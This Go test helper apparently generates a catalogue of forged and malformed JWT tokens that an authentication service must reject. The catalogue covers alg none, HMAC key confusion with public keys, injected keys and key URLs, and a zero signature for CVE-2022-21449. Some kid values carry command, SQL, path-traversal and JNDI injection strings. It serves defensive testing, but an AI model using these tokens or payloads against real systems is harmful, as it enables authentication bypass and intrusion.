package jwttest

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/asn1"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
)

// Attack is a token that nobody may take.
type Attack struct {
	Name  string
	Token string
}

// InHeader reports whether the token arrives as it is in a header and in gRPC's
// metadata: controls and what is not ASCII do not, and space around is cut off on the
// way.
func (a Attack) InHeader() bool {
	odd := func(r rune) bool { return r < ' ' || r > '~' }
	return a.Token != "" && !strings.ContainsFunc(a.Token, odd) && strings.TrimSpace(a.Token) == a.Token
}

// Attacks lists tokens against the issuer's, each refused with 401 by whom Config
// configures. The issuer must have the keys that Start or New gave it.
func (i *Issuer) Attacks() []Attack {
	a := &attacks{issuer: i, claims: i.Claims(nil), ec: i.Keys()[0], rsa: i.Keys()[1]}
	a.thief = NewKey(a.ec.ID, jose.ES256)
	a.text = text(a.claims)
	a.unsigned()
	a.confused()
	a.injected()
	a.forged()
	a.otherForms()
	a.otherText()
	a.otherHeaders()
	a.twice()
	a.wrongTimes()
	a.wrongClaims()
	return a.list
}

type attacks struct {
	issuer  *Issuer
	claims  map[string]any
	text    string // the claims
	ec, rsa Key    // the issuer's
	thief   Key    // with the first key's id
	list    []Attack
}

func (a *attacks) add(name, token string) { a.list = append(a.list, Attack{name, token}) }

// signed adds a token of the issuer's own: only what it says is wrong.
func (a *attacks) signed(name string, header, changes map[string]any) {
	a.add(name, a.ec.Sign(header, a.issuer.Claims(changes)))
}

// unsigned is RFC 8725, section 2.1: alg none.
func (a *attacks) unsigned() {
	for _, alg := range []string{"none", "None", "NONE", "nOnE", ""} {
		input := encode(`{"alg":"`+alg+`","kid":"ec"}`) + "." + encode(a.text)
		a.add("alg "+alg+" without a signature", input+".")
		a.add("alg "+alg+" with one", input+"."+encode("signature"))
		a.add("alg "+alg+" without its dot", input)
	}
	a.add("no alg", a.ec.Sign(map[string]any{"alg": nil}, a.claims))
	a.add("alg is a number", a.ec.Sign(map[string]any{"alg": 256}, a.claims))
	a.add("alg is a list", a.ec.Sign(map[string]any{"alg": []string{"ES256"}}, a.claims))
}

// confused is RFC 8725, section 2.1: a public key taken for an HMAC secret, and keys
// and algorithms that do not belong together.
func (a *attacks) confused() {
	public := a.rsa.Private.Public().(*rsa.PublicKey)
	spki := must(x509.MarshalPKIXPublicKey(public))
	spkiEC := must(x509.MarshalPKIXPublicKey(a.ec.Private.Public()))
	pkcs1 := x509.MarshalPKCS1PublicKey(public)
	for name, secret := range map[string][]byte{
		"the RSA key's PEM":       pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spki}),
		"the RSA key's PKCS1 PEM": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1}),
		"the RSA key's DER":       spki,
		"the RSA key's modulus":   public.N.Bytes(),
		"the EC key's PEM":        pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: spkiEC}),
		"the EC key's DER":        spkiEC,
		"the key set":             a.issuer.KeySet(),
		"nothing":                 {},
		"the key's id":            []byte("ec"),
	} {
		for _, kid := range []string{"ec", "rsa"} {
			input := encode(`{"alg":"HS256","typ":"JWT","kid":"`+kid+`"}`) + "." + encode(a.text)
			mac := hmac.New(sha256.New, secret)
			mac.Write([]byte(input))
			a.add("HS256 over "+name+", kid "+kid, input+"."+encode(string(mac.Sum(nil))))
		}
	}
	for _, alg := range []jose.SignatureAlgorithm{jose.RS384, jose.RS512, jose.PS256, jose.PS384} {
		k := a.rsa
		k.Alg = alg
		a.add("an algorithm that is not listed, "+string(alg), k.Sign(nil, a.claims))
	}
	a.add("ES256's signature under RS256's name", a.ec.Sign(map[string]any{"alg": "RS256"}, a.claims))
	a.add("RS256's signature under ES256's name", a.rsa.Sign(map[string]any{"alg": "ES256"}, a.claims))
	a.add("RS256 under the EC key's id", a.rsa.Sign(map[string]any{"kid": "ec"}, a.claims))
	a.add("ES256 under the RSA key's id", a.ec.Sign(map[string]any{"kid": "rsa"}, a.claims))
	a.add("alg in lower case", a.ec.Sign(map[string]any{"alg": "es256"}, a.claims))
}

// injected is RFC 8725, sections 2.4, 2.5 and 3.10: keys that the token brings along, or
// says where to find.
func (a *attacks) injected() {
	jwk := jose.JSONWebKey{Key: a.thief.Private.Public(), KeyID: "thief", Algorithm: "ES256", Use: "sig"}
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "thief"}, NotAfter: time.Now().Add(time.Hour)}
	certificate := base64.StdEncoding.EncodeToString(must(x509.CreateCertificate(nil, template, template, a.thief.Private.Public(), a.thief.Private)))
	for _, kid := range []any{"ec", "thief", nil} {
		for name, header := range map[string]map[string]any{
			"jwk":                  {"jwk": jwk},
			"jku":                  {"jku": a.issuer.URL + "/thief"},
			"jku with a user":      {"jku": a.issuer.URL + "@thief.test/keys"},
			"x5u":                  {"x5u": a.issuer.URL + "/thief.pem"},
			"x5c":                  {"x5c": []string{certificate}},
			"all of them":          {"jwk": jwk, "jku": a.issuer.URL + "/thief", "x5u": a.issuer.URL + "/thief.pem", "x5c": []string{certificate}},
			"the thief's own name": {},
		} {
			header["kid"] = kid
			a.add("a key in "+name+", kid "+text(kid), a.thief.Sign(header, a.claims))
		}
	}
	for name, kid := range map[string]any{
		"a path": "../../../../dev/null", "SQL": "ec' UNION SELECT 'key", "a command": "ec|/usr/bin/id", "a URL": a.issuer.URL + "/thief",
		"a NUL": "ec\x00", "very long": strings.Repeat("k", 8<<10), "empty": "", "a template": "${jndi:ldap://thief.test/a}",
	} {
		a.add("kid is "+name, a.thief.Sign(map[string]any{"kid": kid}, a.claims))
		input := encode(text(map[string]any{"alg": "HS256", "kid": kid})) + "." + encode(a.text)
		a.add("kid is "+name+", HS256 over nothing", input+"."+encode(string(hmac.New(sha256.New, nil).Sum(nil))))
	}
	a.add("kid is a number", a.ec.Sign(map[string]any{"kid": 1}, a.claims))
	a.add("kid is a list", a.ec.Sign(map[string]any{"kid": []string{"ec"}}, a.claims))
}

// forged has signatures that are none.
func (a *attacks) forged() {
	good := a.ec.Sign(nil, a.claims)
	parts := strings.Split(good, ".")
	raw := must(base64.RawURLEncoding.DecodeString(parts[2]))
	with := func(signature []byte) string { return parts[0] + "." + parts[1] + "." + encode(string(signature)) }
	flipped := append([]byte{raw[0] ^ 1}, raw[1:]...)
	der := must(asn1.Marshal(struct{ R, S *big.Int }{new(big.Int).SetBytes(raw[:32]), new(big.Int).SetBytes(raw[32:])}))
	order := a.ec.Private.(*ecdsa.PrivateKey).Params().N.Bytes()
	a.add("no signature", parts[0]+"."+parts[1]+".")
	a.add("no signature and no dot", parts[0]+"."+parts[1])
	a.add("a bit of the signature turned", with(flipped))
	a.add("a signature of zeros", with(make([]byte, 64))) // CVE-2022-21449
	a.add("a signature of the curve's order", with(append(order, order...)))
	a.add("a signature cut", with(raw[:63]))
	a.add("a signature with more", with(append(raw, 0)))
	a.add("a signature in DER", with(der))
	a.add("an empty RSA signature", a.rsa.Sign(nil, a.claims)[:strings.LastIndex(a.rsa.Sign(nil, a.claims), ".")]+"."+encode(string(make([]byte, 256))))
	other := strings.Split(a.issuer.Token(map[string]any{"sub": "root"}), ".")
	a.add("another token's claims", parts[0]+"."+other[1]+"."+parts[2])
	a.add("another token's signature", parts[0]+"."+parts[1]+"."+other[2])
	a.add("another header", encode(`{"alg":"ES256","kid":"ec"}`)+"."+parts[1]+"."+parts[2])
}

// otherForms has what is not one compact JWS (RFC 7515, section 7; RFC 7516).
func (a *attacks) otherForms() {
	good := a.ec.Sign(nil, a.claims)
	p := strings.Split(good, ".")
	one := map[string]any{"protected": p[0], "signature": p[2]}
	a.add("flattened JSON", text(map[string]any{"payload": p[1], "protected": p[0], "signature": p[2]}))
	a.add("general JSON", text(map[string]any{"payload": p[1], "signatures": []any{one}}))
	a.add("two signatures", text(map[string]any{"payload": p[1], "signatures": []any{one, one}}))
	a.add("two tokens", good+"."+good)
	a.add("two tokens with a comma", good+","+good)
	a.add("five parts", p[0]+".."+p[1]+"."+p[2]+"."+p[2])
	a.add("a dot more", good+".")
	a.add("a dot before", "."+good)
	a.add("a payload elsewhere", p[0]+".."+p[2])
	a.add("only dots", "..")
	a.add("encrypted", a.encrypted())
	a.add("nested", a.ec.Sign(map[string]any{"cty": "JWT"}, good))
	a.add("nested without saying so", a.ec.Sign(nil, good))
	a.signed("cty of a nested one", map[string]any{"cty": "JWT"}, nil)
}

func (a *attacks) encrypted() string {
	to := jose.Recipient{Algorithm: jose.RSA_OAEP_256, Key: a.rsa.Private.Public(), KeyID: "rsa"}
	encrypter := must(jose.NewEncrypter(jose.A256GCM, to, (&jose.EncrypterOptions{Compression: jose.DEFLATE}).WithType("JWT")))
	return must(must(encrypter.Encrypt([]byte(a.text))).CompactSerialize())
}

// otherText has good tokens, written in other ways.
func (a *attacks) otherText() {
	good := a.ec.Sign(nil, a.claims)
	p := strings.Split(good, ".")
	for name, space := range map[string]string{"a space": " ", "a tab": "\t", "a line end": "\n", "a CR": "\r", "a NUL": "\x00", "a no-break space": "\u00a0", "a zero width space": "\u200b"} {
		a.add(name+" before", space+good)
		a.add(name+" behind", good+space)
		a.add(name+" inside", good[:10]+space+good[10:])
		a.add(name+" at a dot", p[0]+"."+space+p[1]+"."+p[2])
	}
	for n := range p {
		q := append([]string(nil), p...)
		q[n] += strings.Repeat("=", (4-len(q[n])%4)%4+4*((len(q[n])+3)%4/3))
		if q[n] == p[n] {
			q[n] += "===="
		}
		a.add("padding", strings.Join(q, "."))
	}
	a.add("the other alphabet", a.ec.alphabet(a.claims))
	a.add("other bits at the end", p[0]+"."+p[1]+"."+p[2][:len(p[2])-1]+string(next(p[2][len(p[2])-1])))
	a.add("percent-encoded", strings.ReplaceAll(good, ".", "%2E"))
	a.add("a scheme in it", "Bearer "+good)
	a.add("over 16 KiB", a.issuer.Token(map[string]any{"more": strings.Repeat("m", 16<<10)}))
	a.add("full-width dots", strings.ReplaceAll(good, ".", "．"))
}

// alphabet is a token in base64's other alphabet, over just that text, where the two
// differ.
func (k Key) alphabet(claims map[string]any) string {
	claims["more"] = "???>>>~~~"
	defer delete(claims, "more")
	header := encode(`{"alg":"ES256","kid":"ec"}`)
	input := header + "." + base64.RawStdEncoding.EncodeToString([]byte(text(claims)))
	return input + "." + encode(k.signature(input))
}

// next is the letter of base64 behind c: the last one of 64 bytes has four bits
// that mean nothing.
func next(c byte) byte {
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	return letters[(strings.IndexByte(letters, c)+1)%64]
}

// otherHeaders has the issuer's own tokens, for another use or with what must be
// understood (RFC 7515, section 4.1.11; RFC 7797; RFC 8725, section 3.11).
func (a *attacks) otherHeaders() {
	for name, header := range map[string]map[string]any{
		"crit unknown": {"crit": []string{"x"}, "x": 1}, "crit empty": {"crit": []string{}}, "crit null": {"crit": json.RawMessage("null")},
		"crit of b64": {"crit": []string{"b64"}, "b64": true}, "crit of exp": {"crit": []string{"exp"}, "exp": 1},
		"b64 false": {"b64": false}, "b64 true": {"b64": true}, "b64 false, crit": {"crit": []string{"b64"}, "b64": false}, "zip": {"zip": "DEF"}, "enc": {"enc": "A256GCM"},
		"typ of a logout": {"typ": "logout+jwt"}, "typ of an event": {"typ": "secevent+jwt"}, "typ of a proof": {"typ": "dpop+jwt"},
		"typ of a request": {"typ": "oauth-authz-req+jwt"}, "typ JOSE": {"typ": "JOSE"}, "typ empty": {"typ": ""}, "typ a number": {"typ": 1},
	} {
		a.signed(name, header, nil)
	}
	header := encode(`{"alg":"ES256","kid":"ec","b64":false,"crit":["b64"]}`)
	a.add("a payload that is not encoded", header+"."+a.text+"."+encode(a.ec.signature(header+"."+a.text)))
	for name, header := range map[string]string{
		"null": "null", "a list": "[]", "empty": "{}", "no JSON": "x", "more behind": `{"alg":"ES256","kid":"ec"}{}`, "a BOM": "\ufeff" + `{"alg":"ES256","kid":"ec"}`,
		"ALG": `{"ALG":"ES256","kid":"ec"}`, "bad UTF-8": "{\"alg\":\"ES256\",\"kid\":\"ec\",\"x\":\"\xff\"}",
	} {
		a.add("the header is "+name, a.ec.SignText(header, a.text))
	}
}

// twice has names that are there twice: readers differ in which one counts (RFC 8725,
// section 2.6).
func (a *attacks) twice() {
	for name, header := range map[string]string{
		"alg": `{"alg":"none","alg":"ES256","kid":"ec"}`, "alg, escaped": `{"\u0061lg":"none","alg":"ES256","kid":"ec"}`,
		"kid": `{"alg":"ES256","kid":"thief","kid":"ec"}`, "inside the header": `{"alg":"ES256","kid":"ec","x":{"a":1,"a":2}}`,
	} {
		a.add("twice: "+name, a.ec.SignText(header, a.text))
	}
	for _, claim := range []string{"iss", "sub", "aud", "exp", "org", "groups"} {
		a.add("twice: "+claim, a.ec.Sign(nil, `{"`+claim+`":"x",`+a.text[1:]))
		a.add("twice: "+claim+", escaped", a.ec.Sign(nil, `{"\u00`+hex(claim[0])+claim[1:]+`":"x",`+a.text[1:]))
		a.add("twice: "+claim+", at the end", a.ec.Sign(nil, a.text[:len(a.text)-1]+`,"`+claim+`":"x"}`))
	}
	a.add("twice: inside a claim", a.ec.Sign(nil, `{"x":{"y":1,"y":2},`+a.text[1:]))
}

func hex(c byte) string { return string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15]) }

func (a *attacks) wrongTimes() {
	now := time.Now().Unix()
	for name, changes := range map[string]map[string]any{
		"no exp": {"exp": nil}, "exp null": {"exp": json.RawMessage("null")}, "exp as text": {"exp": "4102444800"}, "exp a list": {"exp": []int64{now + 300}},
		"exp negative": {"exp": -1}, "exp huge": {"exp": 1e300}, "exp past all dates": {"exp": int64(1) << 62}, "exp true": {"exp": true},
		"expired": {"exp": now - 600}, "expired long ago": {"exp": 1}, "exp zero": {"exp": 0},
		"not yet": {"nbf": now + 600}, "nbf as text": {"nbf": "0"}, "nbf negative": {"nbf": -1}, "iat negative": {"iat": -1e300}, "nbf null": {"nbf": json.RawMessage("null")},
		"issued later": {"iat": now + 600}, "iat as text": {"iat": "0"}, "iat huge": {"iat": 1e300},
	} {
		a.signed("times: "+name, nil, changes)
	}
}

func (a *attacks) wrongClaims() {
	url := a.issuer.URL
	for name, changes := range map[string]map[string]any{
		"no iss": {"iss": nil}, "iss of another": {"iss": "https://other.test"}, "iss with a slash": {"iss": url + "/"}, "iss in capitals": {"iss": strings.ToUpper(url)},
		"iss a list": {"iss": []string{url}}, "iss with a space": {"iss": url + " "}, "iss with a path": {"iss": url + "/x/.."}, "iss empty": {"iss": ""}, "iss cut": {"iss": url[:len(url)-1]},
		"no aud": {"aud": nil}, "aud of another": {"aud": "other"}, "aud in capitals": {"aud": "MODELSERVE"}, "aud's beginning": {"aud": "model"}, "more than aud": {"aud": "modelserve.test"},
		"aud empty": {"aud": ""}, "aud no list": {"aud": []string{}}, "aud an object": {"aud": map[string]any{Audience: true}}, "aud of other kinds": {"aud": []any{Audience, 1}}, "aud *": {"aud": "*"},
		"no sub": {"sub": nil}, "sub empty": {"sub": ""}, "sub a number": {"sub": 1}, "sub with a line end": {"sub": "jane\nroot"}, "sub with a NUL": {"sub": "jane\x00"},
		"sub long": {"sub": strings.Repeat("j", 256)}, "sub turned around": {"sub": "jane\u202eroot"}, "sub with space around": {"sub": " jane"},
		"no tenant": {"org": nil}, "tenant empty": {"org": ""}, "tenant a path": {"org": "../acme"}, "tenant in capitals": {"org": "Acme"}, "tenant *": {"org": "*"},
		"tenant a number": {"org": 1}, "tenant a list": {"org": []string{Tenant}}, "tenant with a dot": {"org": "acme.other"}, "tenant with a line end": {"org": "acme\n"}, "tenant long": {"org": strings.Repeat("a", 64)},
		"tenant null": {"org": json.RawMessage("null")}, "roles a number": {"groups": 1}, "roles of other kinds": {"groups": []any{"invoker", 1}}, "no roles' claim": {"groups": nil}, "too many roles": {"groups": many(101)},
	} {
		a.signed("claims: "+name, nil, changes)
	}
	for name, claims := range map[string]string{
		"a list": "[" + a.text + "]", "null": "null", "text": `"x"`, "no JSON": "x", "more behind": a.text + "{}", "cut": a.text[:len(a.text)-1],
		"a comment": "/**/" + a.text, "bad UTF-8": "{\"x\":\"\xff\"," + a.text[1:], "half a surrogate": `{"x":"\ud800",` + a.text[1:], "a comma more": a.text[:len(a.text)-1] + ",}",
	} {
		a.add("claims are "+name, a.ec.Sign(nil, claims))
	}
}

func many(n int) []string {
	var names []string
	for i := range n {
		names = append(names, "role-"+hex(byte(i)))
	}
	return names
}
